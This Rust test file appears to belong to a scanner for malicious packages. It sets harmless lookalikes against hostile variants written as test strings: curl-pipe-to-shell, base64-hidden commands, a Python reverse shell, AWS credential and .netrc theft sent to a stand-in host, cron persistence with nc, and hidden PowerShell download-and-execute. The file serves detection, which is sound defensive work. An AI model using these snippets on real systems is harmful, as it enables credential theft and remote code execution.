//! What draws of honest packages showed: acts that look like harm and are not, each beside the harm that it looks like.

use super::honest::weight;
use super::*;
use crate::model::Severity;

#[test]
fn whether_a_variable_is_set_says_nothing_of_the_others() {
    let code = |value: &str| {
        format!("import os, requests\nCI = ['A', 'B']\nrequests.post('https://h.invalid/t', json={{'ci': {value}}})")
    };
    let sent = |value: &str| weight(Language::Python, &code(value), "flow-environment-sent");
    assert_eq!(sent("any(e in os.environ for e in CI)"), None);
    assert!(sent("dict(os.environ)") >= Some(Severity::High));
}

#[test]
fn who_is_told_where_tells_what_it_was_told_to() {
    let who = "const os = require('os'), https = require('https');\nconst who = [os.hostname(), process.cwd()];\n";
    let sent = |rest: &str| weight(Language::JavaScript, &format!("{who}{rest}"), "flow-identity-sent");
    assert_eq!(sent("fetch(settings.endpoint, {method: 'POST', body: who.join()})"), Some(Severity::Medium));
    assert!(sent("fetch('https://h.invalid/x', {method: 'POST', body: who.join()})") >= Some(Severity::High));
    let host = "import socket, os, requests\nrequests.get('http://' + socket.gethostname() + 'zkec.h.invalid/?1=' + os.getcwd())";
    assert!(weight(Language::Python, host, "flow-identity-sent") >= Some(Severity::High));
}

#[test]
fn what_is_copied_or_typed_in_is_not_started() {
    let code = |last: &str| {
        format!(
            "const fs = require('fs'), cp = require('child_process');\n\
             fetch('https://h.invalid/x').then(r => r.text()).then(t => {{\n\
             fs.writeFileSync('/home/u/hosts.tmp', t);\n{last}\n}})"
        )
    };
    let runs = |last: &str| weight(Language::JavaScript, &code(last), "flow-download-run");
    assert!(runs("cp.exec('sudo cp /home/u/hosts.tmp /etc/hosts')") < Some(Severity::High));
    assert!(runs("cp.exec('sudo sh /home/u/hosts.tmp')") >= Some(Severity::High));
    assert!(runs("cp.exec('sudo cp /home/u/hosts.tmp /usr/bin/x; x')") >= Some(Severity::High));
    assert!(runs("cp.spawnSync('/bin/bash', [], {cwd: t, stdio: 'inherit'})") < Some(Severity::High));
    assert!(runs("cp.spawnSync('/bin/bash', ['/home/u/hosts.tmp'])") >= Some(Severity::High));
}

#[test]
fn a_command_line_that_stands_there_hides_nothing() {
    let hidden = |code: &str| {
        let outcome = outcome(Language::Python, code);
        outcome.events.iter().filter(|e| e.layer > 0).map(|e| e.quoted).collect::<Vec<_>>()
    };
    let plain = hidden("import os\nos.system('curl https://h.invalid/x | sh')");
    assert!(!plain.is_empty() && plain.iter().all(|quoted| *quoted), "{plain:?}");
    let decoded = "import base64, os\nos.system(base64.b64decode('Y3VybCBodHRwczovL2guaW52YWxpZC94IHwgc2g=').decode())";
    assert!(hidden(decoded).iter().any(|quoted| !quoted));
    let code = "exec(\"import os; os.system('curl https://h.invalid/x | sh')\")";
    assert!(hidden(code).iter().any(|quoted| !quoted), "executed text that is no command line");
}

#[test]
fn streams_that_end_nowhere_are_no_shell() {
    let code = |what: &str| {
        format!(
            "import os, socket, sys\ns = socket.create_connection(('h.invalid', 1))\nos.dup2({what}, sys.stdout.fileno())\nos.system('/bin/sh')"
        )
    };
    let tied = |what: &str| weight(Language::Python, &code(what), "flow-reverse-shell");
    assert_eq!(tied("os.open(os.devnull, os.O_WRONLY)"), None);
    assert!(tied("s.fileno()") >= Some(Severity::High));
}

#[test]
fn a_key_for_a_place_that_settings_name() {
    let code = |host: &str| {
        format!(
            "import requests\ndef submit(private_key, settings):\n    requests.post({host}, data={{'secret': private_key}})"
        )
    };
    let sent = |host: &str| weight(Language::Python, &code(host), "flow-key-sent");
    assert!(sent("'https://%s/api/siteverify' % settings.DOMAIN") < Some(Severity::High));
    assert!(sent("'https://h.invalid/x'") >= Some(Severity::High));
}

#[test]
fn code_is_found_whatever_its_call_looks_like() {
    let runs = |code: &str, rule: &str| rules(Language::JavaScript, code).contains(&rule);
    let read = "const fs = require('fs'), {Script} = require('vm');\nconst t = fs.readFileSync('a.png');\n";
    for call in
        ["new Script(t.toString(), {filename: 'x'}).runInThisContext()", "new Script(t.toString()).runInThisContext()"]
    {
        assert!(runs(&format!("{read}{call}"), "flow-code-from-carrier"), "{call}");
    }
    let hook = |of: &str, name: &str| {
        format!(
            "const o = {of}.{name};\n{of}.{name} = function (given, more) {{\n\
             fetch('https://h.invalid/x', {{method: 'POST', body: JSON.stringify(given)}});\n\
             return o.call(this, given, more);\n}};"
        )
    };
    let mail = hook("mail", "createTransport");
    assert!(runs(&format!("const mail = require('nodemailer');\n{mail}"), "flow-patched-client-tells"));
    let parse = hook("JSON", "parse").replace("JSON.stringify(given)", "given");
    assert!(runs(&parse, "flow-patched-client-tells"));
}

#[test]
fn files_by_methods_that_are_handed_over() {
    let code = |value: &str| {
        format!(
            "import requests\nfrom pathlib import Path as P\nd = {value}\nrequests.post('https://h.invalid/x', json=d)"
        )
    };
    for value in [
        "{p.name: p.read_text() for p in map(P.home().joinpath, ('.netrc', '.aws/credentials')) if p.exists()}",
        "list(map(P.read_text, [P.home() / '.aws' / 'credentials']))",
        "[p.open().read() for p in (P.home() / '.aws').iterdir()]",
        "next(iter([P.home() / '.aws' / 'credentials'])).read_text()",
    ] {
        assert!(rules(Language::Python, &code(value)).contains(&"flow-credentials-sent"), "{value}");
    }
    let other = code("[p.read_text() for p in map(P.cwd().joinpath, ('a.txt',))]");
    assert!(!rules(Language::Python, &other).contains(&"flow-credentials-sent"));
}

#[test]
fn commands_that_carry_others() {
    let runs = |code: &str| rules(Language::Shell, code).contains(&"flow-remote-code");
    let fetched = "sh -c \"$(curl -fsS https://h.invalid/tune.sh)\"";
    for carrier in ["timeout 60", "chroot /mnt", "docker run -d --privileged --pid host -v /:/mnt x chroot /mnt"] {
        assert!(runs(&format!("#!/bin/sh\n{carrier} {fetched}")), "{carrier}");
    }
    // Thousands of them are one command still, and ask of `command` whether there is one starts none.
    assert!(runs(&format!("#!/bin/sh\n{}{fetched}", "sudo timeout 5 env A=1 command ".repeat(8_000))));
    assert!(!runs(&format!("#!/bin/sh\nsudo command -v {fetched}")));
    assert!(!runs("#!/bin/sh\ndocker run --rm alpine sh -c \"$(cat tune.sh)\""));
}

#[test]
fn who_goes_on_without_its_terminal_is_no_other_script() {
    let code = |script: &str| {
        format!(
            "const cp = require('child_process');\n\
             cp.spawn(process.execPath, [{script}, 'serve'], {{detached: true, stdio: 'ignore'}}).unref();\n"
        )
    };
    let starts = |script: &str| weight(Language::JavaScript, &code(script), "flow-starts-unseen");
    assert!(starts("process.argv[1]") < Some(Severity::High));
    assert!(starts("'./worker.js'") >= Some(Severity::High));
}

#[test]
fn a_server_on_the_same_machine_tells_a_script_what_to_do() {
    let code = |from: &str| {
        format!(
            "import subprocess, requests\nwhat = requests.get('{from}/poll').json()\n\
             subprocess.run(['node', '/opt/tool/accept.js', '--id', what['id'], what['page']])\n"
        )
    };
    let runs = |from: &str| weight(Language::Python, &code(from), "flow-download-run");
    assert!(runs("http://127.0.0.1:4000") < Some(Severity::High));
    assert!(runs("http://192.0.2.4:4000") >= Some(Severity::High) && runs("http://10.0.0.4") >= Some(Severity::High));
}

#[test]
fn a_program_that_works_on_data_does_not_start_it() {
    let code = |command: &str| {
        format!(
            "import subprocess, wget\nto = folder() + '/schema.fbs'\n\
             wget.download('https://h.invalid/schema.fbs', to)\nsubprocess.call({command})\n"
        )
    };
    let runs = |command: &str| weight(Language::Python, &code(command), "flow-download-run");
    assert!(runs("['flatc', '-p', '-o', folder(), to]") < Some(Severity::High));
    assert!(runs("['python', to]") >= Some(Severity::High) && runs("[to]") >= Some(Severity::High));
}

#[test]
fn what_is_typed_into_a_batch_file_is_not_the_environment() {
    let code = |set: &str| format!("@echo off\r\n{set}\r\ncurl.exe -d \"%v%\" \"https://h.invalid/v\"\r\n");
    let sent = |set: &str| weight(Language::Batch, &code(set), "flow-environment-sent");
    assert_eq!(sent("set /p v=<\"%~dp0VERSION\""), None);
    assert!(sent("for /f \"delims=\" %%i in ('set') do set \"v=%%i\"") >= Some(Severity::High));
}

#[test]
fn a_file_of_any_name_is_none_that_the_package_brings() {
    let code = |file: &str| format!("name = input()\neval(open({file}).read())\n");
    let runs = |file: &str| weight(Language::Python, &code(file), "flow-executes-data-file");
    assert!(runs("f'chats/{name}.txt'") < Some(Severity::High));
    assert!(runs("'chats/first.txt'") >= Some(Severity::High));
}

#[test]
fn a_text_that_is_read_as_one_is_no_code() {
    let code = |text: &str| {
        let numbers: Vec<String> = text.bytes().map(|b| (b ^ 7).to_string()).collect();
        format!("def f(n):\n    return eval(''.join(chr(i ^ 7) for i in n))\nx = f([{}])\n", numbers.join(","))
    };
    let runs = |text: &str| weight(Language::Python, &code(text), "flow-decoded-code");
    assert!(runs("\"\"\"Localised dates, as people say them.\"\"\"") < Some(Severity::High));
    assert!(runs("'it is so, whatever it is: ' + __import__('os').popen('id').read()") >= Some(Severity::High));
    assert!(runs("\"\"\"a text, and \"\"\" + exec(something) + \"\"\"the rest of it\"\"\"") >= Some(Severity::High));
}

#[test]
fn what_is_masked_in_a_text_is_not_in_it() {
    let javascript = |line: &str| {
        let code = format!(
            "let text = process.argv[2]; for (const v of Object.values(process.env)) {{ {line} }}\n\
             fetch('https://h.invalid/m', {{ method: 'POST', body: text }});\n"
        );
        weight(Language::JavaScript, &code, "flow-environment-sent")
    };
    assert_eq!(javascript("text = text.split(v).join('***');"), None);
    assert_eq!(javascript("text = text.replaceAll(v, '***');"), None);
    assert_eq!(
        javascript(
            "} text = Object.values(process.env).filter(v => v).reduce((t, v) => t.split(v).join('*'), text); {"
        ),
        None
    );
    assert!(
        javascript("} text = Object.values(process.env).filter(v => v).reduce((t, v) => t + v, text); {").is_some()
    );
    assert!(javascript("text = text.replaceAll('***', v);") >= Some(Severity::High));
    assert!(javascript("text = text.split(' ').join(v);") >= Some(Severity::High));
}

#[test]
fn a_shell_that_gets_a_known_tool_hides_nothing() {
    let code =
        |line: &str| format!("& $ps -ExecutionPolicy ByPass -WindowStyle Hidden -c \"{line}\" 2>&1 | Out-Null\n");
    let code = |line: &str| code(line).replace("$ps", "powershell");
    let hides = |line: &str| weight(Language::PowerShell, &code(line), "flow-hidden-shell");
    assert!(hides("irm https://astral.sh/uv/install.ps1 | iex") < Some(Severity::High));
    assert!(hides("irm https://h.invalid/install.ps1 | iex") >= Some(Severity::High));
    assert!(hides("irm https://astral.sh/uv/install.ps1 | iex; irm https://h.invalid/x | iex") >= Some(Severity::High));
}

#[test]
fn jobs_of_installed_programs_and_what_gets_another_name_are_no_persistence() {
    let persists = |code: &str| weight(Language::Shell, code, "flow-persists");
    let job = |line: &str| format!("JOB=/etc/cron.daily/tool\necho \"{line}\" >> $JOB\n");
    assert_eq!(persists(&job("/usr/bin/tool --quiet > /dev/null 2>&1")), Some(Severity::Medium));
    for line in ["/usr/bin/curl -s h.invalid", "/tmp/tool", "/usr/bin/tool; nc h.invalid 1", "/usr/bin/tool $(cat /x)"]
    {
        assert_eq!(persists(&job(line)), Some(Severity::High), "{line}");
    }
    assert_eq!(persists("mv /etc/cron.daily/tool /etc/cron.daily/tool-runtime"), None);
    assert_eq!(persists("mv /var/cache/x /etc/cron.daily/tool-runtime"), Some(Severity::High));
}

#[test]
fn lists_are_asked_about_what_some_program_told() {
    let asked = |domain: &str| {
        let code = format!("$n = `rev $ARGV[0]`; @r = `host -t TXT $n.{domain}`; print @r;\n");
        weight(Language::Perl, &code, "flow-dns-exfiltration")
    };
    assert_eq!(asked("origin.asn.cymru.com"), Some(Severity::Medium));
    assert_eq!(asked("t.collect.invalid"), Some(Severity::High));
}

#[test]
fn a_program_of_the_machine_that_is_given_a_file_is_for_people_to_look_at() {
    let brake = |line: &str| {
        let code = format!(
            "import sys\nfrom subprocess import getstatusoutput\nfrom urllib.request import urlretrieve\n\
             (name, _) = urlretrieve('https://h.invalid/picture')\nprint(getstatusoutput({line}))\n"
        );
        let outcome = outcome(Language::Python, &code);
        let flows = flows::judge(&outcome, false);
        flows.iter().find(|f| f.rule.id == "flow-download-run").map(|f| f.brake.is_some())
    };
    assert_eq!(brake("'rdjpgcom -verbose ' + name"), Some(true));
    for line in ["'bash ' + name", "name", "'rdjpgcom -verbose ' + name + '; ' + name", "'./tool ' + name"] {
        assert_eq!(brake(line), Some(false), "{line}");
    }
}

#[test]
fn who_starts_a_program_says_where_its_report_goes() {
    let code = |default: &str| {
        format!(
            "import argparse, getpass, json, socket, urllib.request\nap = argparse.ArgumentParser()\n\
             ap.add_argument('--hook'{default})\nap.add_argument('--log')\nns = ap.parse_args()\n\
             body = {{'by': getpass.getuser() + '@' + socket.gethostname(), 'log': open(ns.log).read()}}\n\
             urllib.request.urlopen(urllib.request.Request(ns.hook, json.dumps(body).encode()))"
        )
    };
    let sent = |default: &str| weight(Language::Python, &code(default), "flow-identity-sent");
    assert_eq!(sent(""), Some(Severity::Medium));
    assert!(sent(", default='https://h.invalid/x'") >= Some(Severity::High));
}

#[test]
fn the_addresses_of_a_host_that_somebody_names_are_not_those_of_this_one() {
    let code = |name: &str| {
        format!(
            "import getpass, requests, socket\nip = socket.gethostbyname({name})\nrequests.get(f'https://h.invalid/{{ip}}/json', params={{'u': getpass.getuser()}})"
        )
    };
    let sent = |name: &str| weight(Language::Python, &code(name), "flow-identity-sent");
    assert_eq!(sent("input('domain? ')"), None);
    assert!(sent("socket.gethostname()") >= Some(Severity::High));
}

#[test]
fn what_a_model_that_is_paid_for_is_asked_is_asked_for() {
    let code = |host: &str| {
        format!(
            "import requests, subprocess\ndiff = subprocess.check_output(['git', 'diff'], text=True)\n\
             r = requests.post('https://{host}/v1/messages', json={{'content': diff}})\nprint(r.json())"
        )
    };
    let sent = |host: &str| weight(Language::Python, &code(host), "flow-output-sent");
    assert_eq!(sent("api.anthropic.com"), Some(Severity::Medium));
    assert!(sent("h.invalid") >= Some(Severity::High));
}

#[test]
fn programs_that_are_looked_for_by_name_are_those() {
    let code = |begins: &str, program: &str| {
        format!(
            "import requests, shutil, subprocess\n{begins}\n    r = requests.get('https://h.invalid/next').text\n    \
             subprocess.run([{program}, r])"
        )
    };
    let run = |begins: &str, program: &str| weight(Language::Python, &code(begins, program), "flow-download-run");
    let called = |program: &str| run("def go():", program);
    assert_eq!(called("shutil.which('iptables'), '-s'"), called("'iptables', '-s'"));
    assert_eq!(called("'iptables', '-s'"), Some(Severity::Medium));
    for starter in ["shutil.which('sh'), '-c'", "'perl5.36', '-e'", "'gawk'", "'nc', '-e'"] {
        assert!(called(starter) >= Some(Severity::High), "{starter}");
    }
    // Nobody asked for what runs when it is loaded.
    assert!(run("if True:", "'iptables', '-s'") >= Some(Severity::High));
}

#[test]
fn pictures_that_are_drawn_upon_are_not_started() {
    let code = |line: &str| {
        format!(
            "import base64, subprocess\nopen('a.png', 'wb').write(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'))\n\
             subprocess.call('{line}', shell=True)"
        )
    };
    let dropped = |line: &str| weight(Language::Python, &code(line), "flow-drops-and-starts");
    assert!(dropped("composite a.png b.png c.png 2> /dev/null") < Some(Severity::High));
    assert!(dropped("sh a.png") >= Some(Severity::High));
}
